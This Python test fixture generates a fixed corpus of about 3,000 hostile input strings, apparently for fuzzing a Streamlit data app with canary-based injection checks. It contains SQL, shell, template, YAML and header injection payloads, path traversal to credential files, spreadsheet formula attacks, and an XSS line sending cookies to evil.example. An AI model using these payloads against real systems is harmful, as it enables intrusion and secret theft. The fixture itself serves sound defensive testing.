"""Three thousand hostile strings from a dozen families of attacks on programs. They are the same every time."""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from itertools import product
from typing import Final

# fmt: off

SEED: Final = 20_260_101
AT_LEAST: Final = 3_000

CANARY: Final = "canary-8f2c41"
"""A word in the environment, a file and a table of the tests. No answer may contain it, and nothing may change it."""

CANARY_TABLE: Final = "canary"
CANARY_FILE: Final = "canary.txt"
CANARY_NAME: Final = "SAMEPAGE_TEST_CANARY"


def hostile_strings() -> tuple[str, ...]:
    """Return all hostile strings, each once.

    Long ones are next to their family, and some have half a surrogate pair.
    """
    chance = random.Random(SEED)
    families = (
        *(quotes(), statements(), comments(), dialects(), placeholders(), templates(), pages(), yaml_texts()),
        *(formulas(), paths(), formats(), numbers(), letters(), controls(), long_ones(), headers(), shells(), codecs()),
    )
    plain = [quote for family in families for quote in family]
    return tuple(dict.fromkeys([*plain, *mixed(plain, chance)]))


def sample(count: int, *, longest: int = 4_000) -> tuple[str, ...]:
    """Return some strings of every family, none longer than `longest`, for tests in which each attempt takes time."""
    fitting = [text for text in STRINGS if len(text) <= longest]
    return tuple(random.Random(SEED).sample(fitting, count))


def quotes() -> Iterator[str]:
    marks = [
        "'", '"', "`", "''", '""', "\\'", '\\"', "\\", "\\\\", "´", "’", "＇", "＂", "\u02bc", "$$", "$a$", "[", "]",
        "'''",
    ]
    ends = ["", "-- ", "#", "/*", "*/", ";", ")", "))", "\\", "||", " or 1=1", " or '1'='1", "\0"]
    yield from (f"DE{mark}{end}" for mark, end in product(marks, ends))
    yield from (f"{mark}DE{mark}" for mark in marks)


def statements() -> Iterator[str]:
    acts = [
        f"drop table {CANARY_TABLE}", f"delete from {CANARY_TABLE}", f"update {CANARY_TABLE} set word = 'x'",
        f"insert into {CANARY_TABLE} values ('x')", f"create table made_by_{CANARY_TABLE} as select 1",
        "attach 'x.db' as x", f"copy (select 1) to '{CANARY_FILE}'", f"select getenv('{CANARY_NAME}')",
        f"select * from read_text('{CANARY_FILE}')", "install httpfs", "set threads = 1", "pragma database_list",
        "call pg_sleep(5)", "vacuum", "grant all on orders to public", f"alter table {CANARY_TABLE} rename to gone",
    ]
    ways = [
        "'; {} --", '"; {} --', "; {}", "'); {}; --", "' || ({}) || '", "' union {} --", "1; {}", "\\'; {} --", "{}",
    ]
    yield from (way.format(act) for way, act in product(ways, acts))


def comments() -> Iterator[str]:
    marks = [
        "--", "-- ", "#", "/*", "*/", "/**/", "/*!50000 1*/", "//", "--+", "/*+ */", "<!--", "{#", "REM ", "--\n",
        "\n--",
    ]
    yield from (
        f"{before}{mark}{after}" for before, mark, after in product(["", "DE", "'"], marks, ["", " x", "\r\n1"])
    )


def dialects() -> Iterator[str]:
    """Yield strings that one engine reads as the end of a literal or as a statement, and others don't."""
    pieces = [
        *("\\047", "\\x27", "\\u0027", "\\'", "E'\\''", "N'x'", "x'27'", "0x27", "b'x'", "r'x'", 'R"(x)"', "q'[x]'"),
        *("U&'\\0027'", "CHR(39)", "CHAR(39)", "$1", ":1", "?", "%s", "@x", "@@version", "{x:String}", "$${x}$$"),
        *("::text", "::date", "CAST('x' AS INT)", "sleep(5)", "pg_sleep(5)", "benchmark(1,1)", "waitfor delay '0:0:5'"),
        *("system$typeof(1)", "`project`.x", "[x]", "LATERAL VIEW explode(x)", "FORMAT JSON", "INTO OUTFILE 'x'"),
        *("url('http://127.0.0.1/')", "s3('x')", "file('x')", "remote('x')", "reflect('java.lang.System','exit')"),
        *(
            "java_method('x','y')", "dblink('x','y')", "lo_import('x')", "xmlparse(document 'x')", "EXPORT DATA",
            "\\!ls",
        ),
        *("query('select 1')", "pragma_version()", "duckdb_settings()", "read_csv('x')", "glob('*')", "SUMMARIZE x"),
    ]
    ways = ["{}", "'{}'", "') or {} or ('", "1 or {}", "x\\{}", "{}\\"]
    yield from (way.replace("{}", piece) for way, piece in product(ways, pieces))


def placeholders() -> Iterator[str]:
    yield from (f"${number}" for number in (0, 1, 2, 9, 99, 999_999_999_999))
    yield from (f":{name}" for name in ("1", "name", "actor", "market", ":", "id"))
    yield from (f"{mark}{name}{mark}" for mark, name in product("%@?#", ("1", "s", "name")))


def templates() -> Iterator[str]:
    names = [
        CANARY_NAME,
        "HOME", "PATH", "7*7", "self.__class__", "config", "''.__class__.__mro__", "settings.mask_key", "0",
    ]
    ways = [
        *(
            "${{env:{}}}", "${{{}}}", "{{{{{}}}}}", "{{% raw %}}{}{{% endraw %}}", "#{{{}}}", "<%= {} %>", "{{{}}}",
            "%({})s",
        ),
        *("${{jndi:ldap://127.0.0.1/{}}}", "$({})", "`{}`", "@({})", "[[{}]]", "*{{{}}}", "${}", "%{}%", "{{!{}}}"),
    ]
    yield from (way.format(name) for way, name in product(ways, names))


def pages() -> Iterator[str]:
    """Yield HTML, scripts, Markdown, and Streamlit's extensions to Markdown."""
    bodies = ["alert(1)", "window.pwned=1", "fetch('//evil.example/'+document.cookie)"]
    ways = [
        *("<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<iframe srcdoc='<script>{}</script>'>"),
        *("javascript:{}", "[x](javascript:{})", "![x](https://evil.example/{})", "<a href='javascript:{}'>x</a>"),
        *("<style>@import '//evil.example/{}'</style>", "<body onload={}>", "<math><mi xlink:href='javascript:{}'>x"),
        *("data:text/html,<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "<scr<script>ipt>{}</script>"),
        *("</script><script>{}</script>", "<details open ontoggle={}>", "'-{}-'", '"-{}-"', "\\u003cscript\\u003e{}"),
    ]
    yield from (way.replace("{}", body) for way, body in product(ways, bodies))
    yield from (
        *(
            "[Sign in](https://evil.example)", "<https://evil.example>", "https://evil.example",
            "![](//evil.example/x.png)",
        ),
        *(
            "**bold**", "# Title", "> quote", "- [ ] box", "| a | b |\n|---|---|", "```\ncode\n```", "---", "~~x~~",
            "$x^2$",
        ),
        *(":red[certified]", ":material/verified:", ":green-badge[Certified]", ":streamlit:", ":rainbow[x]", "&nbsp;x"),
        *("[x]: https://evil.example", "[^1]", "<br>", "$$\\href{javascript:alert(1)}{x}$$", ":blue[:material/link:]"),
    )


def yaml_texts() -> Iterator[str]:
    tags = [
        "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary eA==", "!include x", "!!map {}",
    ]
    yield from tags
    yield from (f"a: {tag}" for tag in tags)
    yield from (
        f"{before}{mark}{after}"
        for before, mark, after in product(["", "a: ", "- "], "&*!|>%@`{}[],?:-~", ["", "x", " x"])
    )
    yield from (
        "yes", "no", "on", "null", "~", "<<: *a", "---\na\n---\nb", "a: 1\na: 2", "? x", "a:\tb", "\ta: b", "%YAML 9.9",
    )
    yield "a: &a [x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c]"
    yield "[" * 5_000
    yield "{a: " * 5_000
    yield "- " * 5_000


def formulas() -> Iterator[str]:
    starts = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", "'=", '"=', ";=",
        ",=",
    ]
    bodies = [
        "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","x")', "SUM(1,2)", "WEBSERVICE(1)",
        "IMPORTXML(1)",
    ]
    yield from (f"{start}{body}" for start, body in product(starts, bodies))
    yield from ("{=1+1}", "=DDE(1)", "%0A=1", "a;=1", "a\t=1", "a\n=1", "[x.xlsx]y!A1", "R1C1", "#REF!")


def paths() -> Iterator[str]:
    ends = ["etc/passwd", ".streamlit/secrets.toml", "app.py", ".git/config", CANARY_FILE, "windows/win.ini"]
    ways = [
        "../", "..\\", "../../../../../../../../", "..%2f", "%2e%2e/", "..;/", "....//", "/", "//", "~/", "file:///",
        "C:\\",
    ]
    yield from (f"{way}{end}" for way, end in product(ways, ends))
    yield from (f"{end}\0.yml" for end in ends)
    yield from (
        "CON", "nul.csv", "a:b", ".", "..", "...", " ", "aux", "a/b", "a\\b", "a\0b", "/dev/stdin",
        "/proc/self/environ", "-",
    )


def formats() -> Iterator[str]:
    yield from (
        "%s", "%n" * 20, "%x" * 50, "%99999999d", "{}", "{0}", "{0.__class__}", "{:>99999999}", "{!r}", "%(x)s", "%%",
        "%c",
    )
    yield from (
        "{0.__init__.__globals__}", "{self}", "{a[b]}", "%*d", "$${", "\\N{BULLET}", "\\x00", "\\r\\n", "\\1", "\\g<0>",
    )


def numbers() -> Iterator[str]:
    yield from (
        "1e999", "-1e999", "1e-999", "NaN", "-NaN", "Infinity", "-Infinity", "inf", "-0", "0x10", "0b1", "0o7", "1_000",
    )
    yield from (
        "9" * 30, "9" * 400, "-" + "9" * 400, "1.7976931348623157e308", "1e308", "٣", "①", "½", "१२", "1,5", "1 000",
        "+1",
    )
    yield from (
        "2147483648", "-2147483649", "9223372036854775808", "18446744073709551616", "0.1e", "1e", ".", "-.", "1.2.3",
        "--1",
    )
    yield from (
        "0000-00-00", "2026-02-30", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-13-01T25:61:61Z",
        "1970-01-01T00:00Z",
    )


def letters() -> Iterator[str]:
    bases = ["DE", "ß", "İ", "ı", "é", "e\u0301", "Å", "ﬁ", "ﷺ", "𝔻𝔼", "ＤＥ", "Ⅷ", "👩‍👩‍👧", "🏳️‍🌈", "ﬃ", "ſ", "K", "Ω"]
    marks = [
        "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u0338", "\ufe0f",
        "\u2028",
    ]
    yield from bases
    yield from (f"{mark}{base}" for mark, base in product(marks, bases))
    yield from (f"{base}{mark}{base}" for mark, base in product(marks, bases))
    yield from (
        "Z" + "\u0335" * 200, "\ud800", "\udfff", "a\ud800b", "\udc80", "\ud83d", "\U0010ffff", "\ufffe", "\uffff",
        "\ue000",
    )
    yield from (base.upper() + base.lower() for base in bases)


def controls() -> Iterator[str]:
    yield from (chr(number) for number in (*range(32), *range(127, 160)))
    yield from (f"DE{chr(number)}" for number in (*range(32), *range(127, 160)))
    yield from (f"\x1b[{code}" for code in ("31m", "2J", "1;1H", "6n", "?1049h"))
    yield from (
        "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "a\rb", "a\r\nb", "a\n\n\nb",
        "\b" * 20 + "x", "\0" * 100, "\x0012", "\x00123", "DE\x0077x", "\x0112",
    )


def long_ones() -> Iterator[str]:
    yield from (piece * (1_000_000 // len(piece)) for piece in ("a", "'", "é", "\u0301", "DE,"))
    yield from (
        piece * (100_000 // len(piece))
        for piece in ("(", "[", "{", "<b>", "not ", "1+", "%", "&amp;", "a.", "\\", '"', " ")
    )
    yield from (
        piece * 5_000
        for piece in ("((", "a and ", "case when ", "select ", "- ", "a: ", "*", "_", "`", "[x](", ":red[")
    )
    yield from ("a" * length for length in (63, 64, 255, 256, 1_024, 4_096, 32_767, 32_768, 65_536))
    yield from (
        "a" * 30 + "!", "a" * 5_000 + "!", "ab" * 5_000 + "\0", " " * 5_000 + "x", "0" * 5_000 + "x",
        "\t" * 5_000 + "x",
    )


def headers() -> Iterator[str]:
    yield from (
        "x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(1)</script>", "x\nLocation: https://evil.example",
        "x%0d%0aA: b", "x\r",
    )
    yield from (
        "a=b; c=d", "a,b;c", "; Domain=evil.example", 'x"; filename="evil.exe', "x\u560d\u560a",
        "\u2028Set-Cookie: a=b",
    )
    yield from (
        "//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example",
        "/%2f/evil.example",
    )


def shells() -> Iterator[str]:
    bodies = ["id", f"touch {CANARY_FILE}", f"echo ${CANARY_NAME}", "sleep 5"]
    ways = [
        "; {}", "| {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}\n", "& {} &", "> {}", "< {}", "'; {}; '", '"; {}; "',
        "--x={}", "-{}",
    ]
    yield from (way.format(body) for way, body in product(ways, bodies))
    yield from ("-", "--", "--help", "-h", "--model=/", "--out=/", "-c", "@x", "!!", "!x", "*", "?", "~", "--as", "--")


def codecs() -> Iterator[str]:
    """Yield text with the syntax of a question's JSON and address."""
    yield from (
        '{"v":1}', "{}", "[]", "null", '""', '{"metrics":[]}', '{"metrics":["a"],"metrics":["b"]}', '{"v":1e5}',
        '{"v":NaN}',
    )
    yield from (
        '{"__proto__":{}}', '{"metrics":{"a":1}}', "[" * 2_000, '{"a":' * 2_000, '"' + "\\ud800" + '"', "\ufeff{}",
        "{}x", "{'a':1}",
    )
    yield from (
        "country:in:", "country:in:'", "country:in:'a','b", "country:in:a,,", ":::", "a:b:c:d", "country:=:1", "not(",
        "!", "a~b~c",
    )
    yield from (
        "last_1_day", "last_999999_day", "last_0_day", "last_-1_day", "day_to_date", "2026-01-01..", "..", "a..b",
        "back:1:year", "back::",
    )
    yield from (
        "' = '", "\\'", "'\\", "a,b", "a\\,b", "'a'b", "''", "'", ",", ",,", "~", "a!", "!a", "a!!", "(none)",
        "(other)", "(total)",
    )


def mixed(plain: Sequence[str], chance: random.Random) -> Iterator[str]:
    """Yield pieces of two families joined together, or with single letters swapped, which no list of known
    attacks has.
    """
    short = [text for text in plain if 0 < len(text) <= 60]
    for _ in range(700):
        first, other = chance.choice(short), chance.choice(short)
        place = chance.randrange(len(first) + 1)
        yield first[:place] + other + first[place:]
    for _ in range(500):
        yield "".join(chance.choice(short)[:8] for _ in range(chance.randrange(2, 8)))
    alphabet = "'\"`\\;-/*#%$@{}[]()<>|&!=+~:,.\0\n\r\t\x1b\u202e\u0301\u200b\uffff\ud800aZ09_ ß"
    for _ in range(500):
        yield "".join(chance.choice(alphabet) for _ in range(chance.randrange(1, 30)))


STRINGS: Final = hostile_strings()
